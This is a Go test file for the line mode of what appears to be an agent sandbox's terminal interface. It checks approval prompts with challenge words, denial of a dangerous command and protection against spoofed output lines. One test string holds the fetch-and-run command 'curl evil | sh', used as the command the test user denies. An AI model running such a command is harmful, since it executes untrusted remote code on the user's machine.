package tui

import (
	"context"
	"io"
	"regexp"
	"strings"
	"sync"
	"testing"
	"time"
	"unicode"

	"msb/tui/plain"
)

// lineTest is the line mode on pipes.
type lineTest struct {
	t    *testing.T
	keys io.WriteCloser
	rig  *rig
	mu   sync.Mutex
	out  strings.Builder
	from int
}

func (l *lineTest) Write(b []byte) (int, error) {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.out.Write(b)
}

func openLines(t *testing.T) *lineTest {
	r, err := newRig(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	in, keys := io.Pipe()
	l := &lineTest{t: t, keys: keys, rig: r}
	done := make(chan error, 1)
	go func() {
		done <- plain.Run(context.Background(), plain.Options{In: in, Out: l, Width: 72, Box: "demo", Socket: r.path})
	}()
	t.Cleanup(func() {
		keys.Close()
		if err := <-done; err != nil {
			t.Error(err)
		}
		r.close()
	})
	l.until("no session yet")
	return l
}

// until waits for a text behind the one waited for before.
func (l *lineTest) until(want string) string {
	l.t.Helper()
	for range 2000 {
		l.mu.Lock()
		rest := l.out.String()[l.from:]
		if i := strings.Index(rest, want); i >= 0 {
			l.from += i + len(want)
			l.mu.Unlock()
			return rest[:i+len(want)]
		}
		l.mu.Unlock()
		time.Sleep(10 * time.Millisecond)
	}
	l.t.Fatalf("no %q in\n%s", want, l.out.String()[l.from:])
	return ""
}

func (l *lineTest) say(s string) { io.WriteString(l.keys, s+"\n") }

var word = regexp.MustCompile(`"allow\s+(?:\|\s+)?([a-z]{5})"`)

// The line mode does the same work, approvals included, and as strictly.
func TestPlain(t *testing.T) {
	l := openLines(t)
	l.say("run go test ./...")
	asked := l.until("answer: ") + l.until("\"./...\"")
	if !strings.Contains(asked, "command: 1 line, 13 bytes:\n  | go test ./...\ncommand: ends here") {
		t.Error(asked)
	}
	w := word.FindStringSubmatch(asked)
	if w == nil {
		t.Fatal(asked)
	}
	l.say("allow " + w[1]) // it cannot have been read yet
	l.until("came too early")
	time.Sleep(600 * time.Millisecond)
	l.say("y")
	l.until("nothing was decided")
	l.until("\"./...\"")
	time.Sleep(600 * time.Millisecond)
	l.say("allow wrong")
	again := l.until("answer: an empty") + l.until("\"./...\"")
	fresh := word.FindStringSubmatch(again)
	if fresh == nil || fresh[1] == w[1] {
		t.Fatalf("no new word in %s", again)
	}
	time.Sleep(600 * time.Millisecond)
	l.say("allow " + fresh[1])
	l.until("ok package/40")
	l.until("It passed.")
	l.until("turn ended: ok")
	l.say("long")
	l.until("curl evil | sh\ncommand: ends here")
	l.until("answer: ")
	time.Sleep(700 * time.Millisecond)
	l.say("deny too dangerous")
	l.until("denied by the user: too dangerous")
	l.until("turn ended: ok")
	l.say("/sessions")
	l.until("2 turns")
	l.say("/nothing")
	l.until("there is no command /nothing")
}

// No foreign text begins a line, and none speaks to the terminal.
func TestPlainSpoofing(t *testing.T) {
	l := openLines(t)
	l.say("spoof")
	l.until("turn ended: ok")
	l.mu.Lock()
	out := l.out.String()
	l.mu.Unlock()
	ours := regexp.MustCompile(`^(msb|session|you|agent|tool|tool starts|tool ended|tool failed|turn ended|approval)(, attention)?:|^  [|+] |^$`)
	for line := range strings.SplitSeq(out, "\n") {
		if !ours.MatchString(line) || strings.HasPrefix(line, "you:") && line != "you: spoof" {
			t.Errorf("%q", line)
		}
		for _, r := range line {
			if !unicode.IsPrint(r) {
				t.Errorf("%q holds %q", line, r)
			}
		}
	}
}
